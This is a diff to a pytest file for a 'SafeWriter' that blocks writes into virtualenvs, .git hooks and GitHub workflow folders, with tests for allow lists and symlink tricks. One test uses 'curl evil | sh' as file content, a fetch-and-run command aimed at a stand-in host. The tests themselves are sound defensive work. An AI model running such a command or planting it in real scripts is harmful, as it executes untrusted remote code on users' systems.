@@ -76,11 +76,15 @@ def test_directory_holding_pyvenv_cfg_is_a_virtualenv(tmp_path):
     writer = SafeWriter(tmp_path)
     result = write(writer, "env/bin/activate", "curl evil | sh\n")
     assert isinstance(result, FileError)
-    assert re.search(r"inside 'env'.*holds pyvenv\.cfg.*virtualenv", result.error), result.error
+    assert re.search(r"inside 'env'.*holds pyvenv\.cfg.*virtualenv.*name 'env/' in allow_paths", result.error)
     assert not (tmp_path / "env" / "bin" / "activate").exists()
     # A plain directory of the same shape is not protected.
     assert isinstance(write(writer, "tools/bin/activate"), WrittenFile)
+    # The hint works: the named place is written, and an exact entry lifts only its own file.
     assert isinstance(write(SafeWriter(tmp_path, allow_paths=["env/"]), "env/bin/activate"), WrittenFile)
+    exact = SafeWriter(tmp_path, allow_paths=["env/bin/python3.pth"])
+    assert isinstance(write(exact, "env/bin/python3.pth"), WrittenFile)
+    assert isinstance(write(exact, "env/bin/pip"), FileError)
 
 
 def test_neighbours_of_protected_places_are_fine(tmp_path):
@@ -170,6 +174,28 @@ def test_output_dir_reaching_protected_place_through_symlink(tmp_path):
     with pytest.raises(InputError, match=r"inside '\.git'"):
         check_output_dir(tmp_path / "hooks", tmp_path)
     assert list((tmp_path / ".git" / "hooks").iterdir()) == []
+
+
+def test_allow_paths_are_relative_to_the_allowed_root(tmp_path):
+    # Protection and the allow list are judged in one frame: the path under the allowed root (confine_to).
+    out = tmp_path / "app"
+    wrong_frame = SafeWriter(out, confine_to=tmp_path, allow_paths=[".github/workflows/"])
+    assert isinstance(write(wrong_frame, ".github/workflows/ci.yml"), FileError)
+    right_frame = SafeWriter(out, confine_to=tmp_path, allow_paths=["app/.github/workflows/"])
+    assert isinstance(write(right_frame, ".github/workflows/ci.yml"), WrittenFile)
+    assert (out / ".github" / "workflows" / "ci.yml").exists()
+
+
+def test_symlink_into_workflows_refused_and_named_place_allowed(tmp_path):
+    (tmp_path / ".github" / "workflows").mkdir(parents=True)
+    (tmp_path / "ci").symlink_to(tmp_path / ".github" / "workflows")
+    result = write(SafeWriter(tmp_path), "ci/deploy.yml", "on: push\n")
+    assert isinstance(result, FileError)
+    assert "inside '.github/workflows'" in result.error and "'.github/workflows/' in allow_paths" in result.error
+    assert list((tmp_path / ".github" / "workflows").iterdir()) == []
+    allowed = SafeWriter(tmp_path, allow_paths=[".github/workflows/"])
+    assert isinstance(write(allowed, "ci/deploy.yml", "on: push\n"), WrittenFile)
+    assert (tmp_path / ".github" / "workflows" / "deploy.yml").read_text() == "on: push\n"
 
 
 def test_output_dir_outside_allowed_root(tmp_path):
